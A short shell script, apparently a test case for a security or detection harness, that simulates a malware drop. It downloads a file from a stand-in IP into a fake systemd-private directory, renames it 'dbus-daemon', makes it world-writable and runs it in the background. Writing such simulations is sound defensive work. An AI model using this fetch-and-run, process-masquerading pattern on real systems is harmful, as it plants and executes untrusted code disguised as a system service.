#!/bin/sh
. /opt/case/case.sh

d=/var/tmp/systemd-private-4a1f; mkdir -p $d/tmp
curl -s -o $d/tmp/dbus-daemon http://203.0.113.10/programs/marker
chmod 777 $d/tmp/dbus-daemon
nohup $d/tmp/dbus-daemon >/dev/null 2>&1 &
wait_for /tmp/reached
took_place
